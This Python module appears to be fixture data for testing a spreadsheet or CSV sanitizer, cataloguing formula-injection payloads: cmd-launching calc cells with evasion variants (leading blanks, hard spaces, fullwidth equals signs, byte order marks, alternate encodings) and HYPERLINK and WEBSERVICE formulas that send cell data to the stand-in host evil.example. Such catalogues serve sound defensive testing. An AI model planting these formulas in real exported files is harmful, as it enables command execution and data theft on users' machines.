"""Tables whose cells call programs."""

from __future__ import annotations

CELLS = {
    "call": b"=cmd|'/c calc'!A1",
    "call in quotes": b"\"=2+5+cmd|' /C calc'!A0\"",
    "call behind a function": b"@SUM(1+1)*cmd|'/c calc'!A0",
    "call behind a plus": b"+cmd|'/c calc'!A0",
    "call with a semicolon": b"=cmd|' /C calc;x'!A0",
    "call with a tab": b"=cmd|' /C\tcalc'!A0",
    "call behind blanks": b" " * 30 + b"=cmd|'/c calc'!A0",
    "call of Excel": b" =MSEXCEL|'\\..\\calc.exe'!''",
}


READINGS = {
    "long call": b"a,=cmd|' /C " + b"x" * 3000 + b"'!A0,b",
    "call behind a hard blank": b"a,\xc2\xa0=cmd|'/c calc'!A0",
    "call behind a chosen separator": b"sep=^\r\na^=cmd|'/c calc'!A0^b",
    "wide equals sign": "a,\uff1dcmd|'/c calc'!A0".encode(),
    "wide equals sign in Shift_JIS": "\u30a2,\uff1dcmd|'/c calc'!A0".encode("cp932"),
    "call behind a vertical tab": b"a,\x0b=cmd|'/c calc'!A0",
    "call with a blank": b"=cmd |'/c calc'!A0",
    "call over lines": b"\"=cmd|'/c\ncalc'!A0\"",
    "function behind quotes": b'"=IF(1,"")"",WEBSERVICE(A1))"',
    "function behind a semicolon": b'=IF(A1;WEBSERVICE("x"))',
    "function behind a decimal comma": b'=1,5+WEBSERVICE("x")',
    "call behind a byte order mark": b"\xef\xbb\xbf=cmd|'/c calc'!A0",
}


OUTSIDE = {
    "link": b'=HYPERLINK("http://evil.example/?"&A1,"x")',
    "web service": b'=WEBSERVICE("http://evil.example")',
    "import": b'=IMPORTXML("x","y")',
}


WIDE = "\ufeffa\t=cmd|'/c calc'!A1".encode("utf-16-le")


THREATS = {name: b"a," + cell + b",c\n" for name, cell in CELLS.items()} | READINGS | OUTSIDE | {"call in UTF-16": WIDE}
"""Name: a table with a formula that acts."""
